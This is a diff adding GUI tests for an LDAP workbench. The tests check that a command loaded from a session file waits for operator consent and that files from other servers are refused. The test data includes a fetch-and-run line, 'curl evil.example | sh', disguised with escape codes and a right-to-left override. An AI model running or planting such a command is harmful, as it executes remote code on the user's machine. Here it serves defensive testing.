@@ -1,0 +1,145 @@
+"""Opening a file fills the plan; nothing of it starts that nobody has read and agreed to."""
+
+from dataclasses import replace
+
+import pytest
+from PySide6.QtCore import Qt, QTimer
+from PySide6.QtWidgets import QApplication
+
+from ldap_workbench.gui.experiment.file_consent import FileConsent
+from ldap_workbench.gui.experiment.screen import DESIGN, VERDICT
+from ldap_workbench.gui.widgets.consent import ConsentBox
+from ldap_workbench.gui.workbench import Connection
+from ldap_workbench.session import Session, SessionWriter
+from ldap_workbench.tuning import Tuner, load_catalogue
+from tests import sessions
+from tests.gui.conftest import idle, opened
+from tests.unit.tuning.fakes import FACTS, FakeTarget
+
+LOAD = "sh -c 'curl evil.example | sh'\x1b[2J\u202e" + " a" * 400
+SEEN = LOAD.replace("\x1b", "\\x1b").replace("\u202e", "\\u202e")
+HERE = replace(FACTS, identity="389ds:here")
+
+
+@pytest.fixture(scope="module")
+def files(tmp_path_factory):
+    """A session of this server, one of another, and one that does not say."""
+    folder, found = tmp_path_factory.mktemp("files"), {}
+    for whose, identity in (("ours", HERE.identity), ("other", "389ds:there"), ("nobody", "")):
+        path = sessions.build_experiment_session(
+            folder / f"{whose}.ldapwb", seconds=3, per_second=20
+        )
+        with Session.open(path) as session:
+            [stored] = session.experiments()
+        with SessionWriter.append(path) as writer:
+            writer.set_facts(replace(HERE, identity=identity, host=f"{whose}.example"))
+            writer.put_experiment(replace(stored, plan=replace(stored.plan, load=LOAD)))
+        found[whose] = path
+    return found
+
+
+@pytest.fixture
+def begun(window, monkeypatch):
+    """Plans whose run was begun; the server is a fake, and its own question is answered yes."""
+    plans = []
+    monkeypatch.setattr(ConsentBox, "agreed", lambda self: True)
+    monkeypatch.setattr(window.experiment, "_begin", lambda plan, path: plans.append(plan))
+    target = FakeTarget(facts=HERE)
+    bench = window.workbench
+    bench.connection = Connection(target, Tuner(target, bench.journal(), load_catalogue()))
+    target.close = target.directory.close
+    target.now_ns = lambda: sessions.START_NS
+    bench.connectionChanged.emit()
+    return plans
+
+
+def at_the_design(qtbot, window, path, way):
+    screen = opened(qtbot, window, path, "experiment")
+    if way == "again":
+        screen.go_to(VERDICT)
+        idle(qtbot, window)
+        qtbot.mouseClick(screen.verdict._again, Qt.MouseButton.LeftButton)
+    else:
+        screen.try_settings(["nsslapd-idlistscanlimit=8000"])
+    idle(qtbot, window)
+    screen.go_to(DESIGN)
+    idle(qtbot, window)
+    return screen
+
+
+def answering(qtbot, do):
+    """Let `do` meet the dialog that opens next."""
+    met = []
+
+    def look():
+        dialog = QApplication.activeModalWidget()
+        if isinstance(dialog, FileConsent):
+            met.append(dialog.plan.toPlainText())
+            do(dialog)
+
+    QTimer.singleShot(50, look)
+    return met
+
+
+def agree(dialog):
+    assert not dialog.take.isEnabled(), "the command is agreed to by itself"
+    dialog.tick.setChecked(True)
+    dialog.take.click()
+
+
+@pytest.mark.parametrize("way", ["again", "try this"])
+def test_a_plan_from_a_file_is_read_before_it_starts(qtbot, window, begun, files, way):
+    screen = at_the_design(qtbot, window, files["ours"], way)
+    met = answering(qtbot, lambda dialog: dialog.reject())
+    screen.start()
+    assert begun == []
+    assert f"It runs on this machine, in every window: {SEEN}" in met[0].splitlines()
+    for told in ("from the file", "It sets: nsslapd", "windows of", "rests on", "Afterwards: ask"):
+        assert told in met[0]
+    met = answering(qtbot, agree)
+    screen.start()
+    assert [plan.load for plan in begun] == [LOAD.strip()]
+    screen.start()
+    assert len(begun) == 2, "agreed to once, it is the operator's own"
+
+
+def test_no_translation_touches_the_command(german, qtbot, window, begun, files):
+    screen = at_the_design(qtbot, window, files["ours"], "again")
+    screen.design._load.setText("echo absent and better; echo immaterial")
+    met = answering(qtbot, lambda dialog: dialog.reject())
+    screen.start()
+    assert "Fenster aus: echo absent and better; echo immaterial" in met[0]
+
+
+def test_the_noise_floor_of_a_file_is_asked_for_as_well(qtbot, window, begun, files):
+    screen = at_the_design(qtbot, window, files["ours"], "again")
+    met = answering(qtbot, lambda dialog: dialog.reject())
+    screen.measure_noise()
+    assert begun == []
+    assert SEEN in met[0]
+
+
+def test_a_file_of_another_server_is_refused(qtbot, window, begun, files):
+    screen = at_the_design(qtbot, window, files["other"], "try this")
+    screen.start()
+    assert begun == []
+    assert "another server: other.example" in window.error_bar.heading.text()
+    assert screen.design.form().load == "", "the page is back at its own values"
+    screen.start()
+    assert [plan.load for plan in begun] == [""]
+
+
+def test_a_file_that_names_no_server_is_a_strangers(qtbot, window, begun, files):
+    screen = at_the_design(qtbot, window, files["nobody"], "again")
+    met = answering(qtbot, lambda dialog: dialog.reject())
+    screen.start()
+    assert begun == []
+    assert "read it as a stranger's" in met[0]
+
+
+def test_a_command_the_operator_wrote_needs_no_tick(qtbot, window, begun, files):
+    screen = at_the_design(qtbot, window, files["ours"], "again")
+    screen.design._load.setText("true")
+    answering(qtbot, lambda dialog: dialog.take.click())
+    screen.start()
+    assert [plan.load for plan in begun] == ["true"]
